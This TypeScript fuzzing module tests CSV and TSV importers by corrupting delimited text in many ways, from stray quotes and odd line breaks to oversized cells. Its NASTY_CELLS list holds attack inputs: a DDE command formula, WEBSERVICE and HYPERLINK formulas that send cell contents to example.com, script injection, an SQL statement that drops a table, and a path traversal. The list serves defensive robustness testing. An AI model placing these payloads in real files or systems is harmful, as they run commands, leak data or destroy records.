import type { Chance } from './chance.ts'

/** One way to spoil a text before it is encoded. */
export type SpoilText = (text: string, chance: Chance) => string

/** Cells that have made importers fall over. */
export const NASTY_CELLS: readonly string[] = [
  '=1+1',
  '=cmd|"/c calc"!A1',
  '=HYPERLINK("https://example.com/?"&A1,"看")',
  '=WEBSERVICE("https://example.com/"&A2)',
  '=[1]Sheet1!A1',
  '@SUM(1,1)',
  '＝1+1',
  '\t=1',
  '1e999',
  '-1e999',
  '1e-999',
  'Infinity',
  'NaN',
  '-0',
  '0x1F',
  '9007199254740993',
  '7.02123456789012E+18',
  '99999999999999999999999999万',
  '1.2.3万',
  '50万-10万',
  '>100w',
  '~',
  '%',
  '999999%',
  '1e308亿',
  '#REF!',
  '未收录',
  '--',
  '-1',
  '1970-01-01',
  '2026-02-31 25:61:61',
  '99999999999999',
  '上海|17.4% 北京|NaN%',
  '|||||',
  '42.64% | | 192745',
  '__proto__',
  'constructor',
  'toString',
  '',
  ' ',
  '\u200b',
  '\u202e反',
  '\ud800',
  '\0',
  '𠮷😀👨‍👩‍👧',
  '<script>alert(1)</script>',
  "'; DROP TABLE creators; --",
  '../../etc/passwd',
  '{{7*7}}',
  'x'.repeat(40_000),
]

const replaceAt = (text: string, { from, to }: { from: number; to: number }, by: string) => text.slice(0, from) + by + text.slice(to)

function replaceCells(text: string, { whole, pick }: Chance): string {
  const separator = text.includes('\t') ? '\t' : ','
  const lines = text.split('\n')
  for (let left = whole(1, 12); left > 0; left -= 1) {
    const at = whole(0, lines.length - 1)
    const cells = (lines[at] ?? '').split(separator)
    const cell = pick(NASTY_CELLS)
    cells[whole(0, cells.length - 1)] = cell.includes(separator) || cell.includes('"') ? `"${cell.replaceAll('"', '""')}"` : cell
    lines[at] = cells.join(separator)
  }
  return lines.join('\n')
}

function insertQuotes(text: string, { whole, pick }: Chance): string {
  let quoted = text
  for (let left = whole(1, 8); left > 0; left -= 1) {
    const at = whole(0, quoted.length)
    quoted = replaceAt(
      quoted,
      { from: at, to: at },
      pick(['"', '""', '"""', '""""', '","', '"\n"', '"a ""b"" c"', '“', "'", '\\"', '"'.repeat(300)]),
    )
  }
  return quoted
}

function changeBreaks(text: string, { pick }: Chance): string {
  return text.replaceAll(/\r?\n/g, pick(['\r', '\r\n', '\n\n', '\r\r\n', '\u2028', '\n,\n', '']))
}

function shuffleLines(text: string, { whole }: Chance): string {
  const lines = text.split('\n')
  for (let left = whole(1, 30); left > 0; left -= 1) lines.splice(whole(0, lines.length), 0, ...lines.splice(whole(0, lines.length), 1))
  return lines.join('\n')
}

function loseHeader(text: string): string {
  return text.slice(text.indexOf('\n') + 1)
}

function repeatHeader(text: string, { whole }: Chance): string {
  const header = text.slice(0, text.indexOf('\n') + 1)
  return header.repeat(whole(2, 4)) + text
}

function spoilHeader(text: string, { pick, whole }: Chance): string {
  const at = text.indexOf('\n')
  const separator = text.includes('\t') ? '\t' : ','
  const names = text.slice(0, at).split(separator)
  names[whole(0, names.length - 1)] = pick(['', '__proto__', 'constructor', '昵称', '=1', 'x'.repeat(40_000), '\u200b', names[0] ?? ''])
  return names.join(separator) + text.slice(at)
}

const widen = (text: string, { pick }: Chance) => {
  const cells = ',x'.repeat(pick([1, 500, 16_383, 16_384, 20_000]))
  return text
    .split('\n')
    .map((line, at) => (at < 3 ? line + cells : line))
    .join('\n')
}

const growCell = (text: string, { whole }: Chance) => {
  const at = whole(0, text.length)
  return replaceAt(text, { from: at, to: at }, '长'.repeat(whole(900_000, 1_100_000)))
}

const changeDelimiter = (text: string, { pick }: Chance) => text.replaceAll(/[,\t]/g, pick([';', '|', '\t', ',', ' ', ':', '，', '\u0001']))
const addMetaLine = (text: string, { pick }: Chance) =>
  pick(['sep=;\n', 'sep=,\n', 'sep=\n', '\n\n\n', '达人导出,,,\n', '<html><body>', '{', '[', 'PK']) + text

/** Ways that fit delimited text. */
export const TEXT_MUTATIONS: Readonly<Record<string, SpoilText>> = {
  'nasty cells': replaceCells,
  'nested quotes': insertQuotes,
  'other line breaks': changeBreaks,
  'lines in disorder': shuffleLines,
  'no header': loseHeader,
  'many headers': repeatHeader,
  'a nasty header': spoilHeader,
  '16,384 columns': widen,
  'one huge cell': growCell,
  'another delimiter': changeDelimiter,
  'a line before the header': addMetaLine,
}
